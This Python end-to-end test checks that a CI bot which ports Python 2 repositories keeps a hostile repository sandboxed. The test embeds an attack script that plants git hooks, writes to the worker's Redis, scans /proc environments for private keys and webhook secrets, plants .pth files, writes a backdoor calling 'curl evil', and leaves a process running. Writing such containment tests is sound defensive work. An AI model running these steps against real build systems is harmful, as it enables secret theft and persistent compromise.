"""A repository whose install command, tests and smoke command attack the worker, through the whole app.

The real Flask app, a real Redis (with its password), a real RQ worker process running as root
(as CI does), the GitHub stand-in over real HTTP and real git. The hostile code knows where the
worker keeps its clone, its Redis port and the worker's process ids: it tries git hooks, Redis,
/proc, lingering processes, planted files and a poisoned environment. The PR must carry only the
fixer's change, and nothing the attack tried may have an effect outside its sandbox.
"""
import os
import textwrap
import uuid
from pathlib import Path
from urllib.parse import urlsplit

from redis import Redis

from tests.e2e.conftest import env_cache, stack  # noqa: F401
from tests.standin.fixtures import standin, standin_server  # noqa: F401
from standin.server import installation_event

HOSTILE_INSTALLATION = 66

ATTACK = textwrap.dedent('''\
    # Runs on Python 2.7 and 3, like the repository's tests.
    import glob, os, socket, subprocess, sys

    MARK = %(mark)r
    WORK = %(work)r
    REDIS_PORT = %(redis_port)d
    phase = sys.argv[1]
    found = []

    # Git hooks in the worker's own clone, and in the tree we were given.
    for folder in glob.glob(os.path.join(WORK, "*")) + [".", ".."]:
        hooks = os.path.join(folder, ".git", "hooks")
        for hook in ("pre-commit", "pre-push", "post-checkout"):
            try:
                if not os.path.isdir(hooks):
                    os.makedirs(hooks)
                with open(os.path.join(hooks, hook), "w") as f:
                    f.write("#!/bin/sh\\nenv > /tmp/%%s-hook-ran\\n" %% MARK)
                os.chmod(os.path.join(hooks, hook), 0o755)
                found.append("hook written in " + folder)
            except Exception:
                pass

    # Redis: enqueue something for the worker to run.
    try:
        s = socket.create_connection(("127.0.0.1", REDIS_PORT), timeout=3)
        s.sendall(b"SET py3bridge-pwned-%%s 1\\r\\n" %% MARK.encode())
        found.append("redis answered " + s.recv(100).decode(errors="replace"))
    except Exception as err:
        found.append("redis unreachable: %%s" %% err.__class__.__name__)

    # Secrets in other processes.
    for path in glob.glob("/proc/*/environ"):
        try:
            data = open(path, "rb").read()
        except Exception:
            continue
        if b"PRIVATE_KEY" in data or b"WEBHOOK_SECRET" in data:
            found.append("SECRET FOUND in " + path)

    # Artefacts and a backdoor the worker might commit, a .pth for whoever uses this environment next.
    if not os.path.isdir("hostile.egg-info"):
        os.makedirs("hostile.egg-info")
    open("hostile.egg-info/PKG-INFO", "w").write("Name: hostile\\n")
    open("backdoor.py", "w").write("import os; os.system('curl evil')\\n")
    for site in glob.glob(os.path.join(os.environ.get("VIRTUAL_ENV", "/env"), "lib", "python*", "site-packages")):
        try:
            open(os.path.join(site, "zz_%%s_%%s.pth" %% (MARK, phase)), "w").write("import os\\n")
            found.append("pth planted in " + phase)
        except Exception:
            found.append("environment read-only in " + phase)

    # A process that outlives the step.
    subprocess.Popen(["sleep", "600"], preexec_fn=os.setsid, env={"MARK": MARK})
    sys.stdout.write("ATTACK %%s %%s\\n" %% (phase, found))
''')


def hostile_files(mark, work_dir, redis_port):
    return {
        "attack.py": ATTACK % {"mark": mark, "work": str(work_dir), "redis_port": redis_port},
        "legacy/__init__.py": "",
        "legacy/greet.py": 'def greet(name):\n    print "hello", name\n    return name\n',
        "test_legacy.py": "import unittest\nfrom legacy import greet\n\n\nclass T(unittest.TestCase):\n"
                          "    def test_greet(self):\n        self.assertEqual(greet.greet('a'), 'a')\n",
        ".github/py3bridge.yml": ("tests:\n  install: python attack.py install\n"
                                 "  command: python attack.py test && python -m unittest discover -v\n"
                                 "  smoke:\n    - python attack.py smoke\n"),
    }


def test_hostile_repository_is_contained_and_its_pr_holds_only_the_fix(stack):  # noqa: F811
    mark = "py3bridge-attack-%s" % uuid.uuid4().hex[:8]
    work_dir = Path(stack.env["PY3BRIDGE_WORK_DIR"])
    redis_port = urlsplit(stack.env["REDIS_URL"]).port
    stack.state.make_repo("octo", "hostile", hostile_files(mark, work_dir, redis_port),
                          installation_id=HOSTILE_INSTALLATION)

    stack.deliver("installation", installation_event(stack.state, stack.standin.urls, HOSTILE_INSTALLATION))
    stack.run_worker()

    (pull,) = stack.state.pulls("octo", "hostile")
    diff = stack.state.pull_diff("octo", "hostile", pull.number)
    changed = sorted(line[len("+++ b/"):] for line in diff.splitlines() if line.startswith("+++ b/"))
    assert changed == ["legacy/greet.py"], diff
    assert "SECRET FOUND" not in pull.body
    assert "| 2.7.18 | 1 passed, 0 failed, 0 errors | 1 passed, 0 failed, 0 errors |" in pull.body  # the attack ran

    assert not list(Path("/tmp").glob("%s-hook-ran" % mark)), "a git hook the repository wrote was run"
    assert not list(work_dir.glob("*/.git/hooks/pre-push"))
    assert Redis.from_url(stack.env["REDIS_URL"]).get("py3bridge-pwned-%s" % mark) is None
    assert _processes_marked(mark) == []

    envs = Path(stack.env["PY3BRIDGE_CACHE_DIR"]) / "envs"
    planted = {p.parent.parent.parent.parent.parent.name + ":" + p.name.rsplit("_", 1)[1]
               for p in envs.glob("*/*/lib/python*/site-packages/zz_%s_*.pth" % mark)}
    # Its install step may change its own installation's environments; nothing else may, ever.
    assert planted == {"installation-%d:install.pth" % HOSTILE_INSTALLATION}


def _processes_marked(mark):
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if ("MARK=%s" % mark).encode() in Path("/proc/%s/environ" % pid).read_bytes():
                found.append(pid)
        except OSError:
            pass
    return found
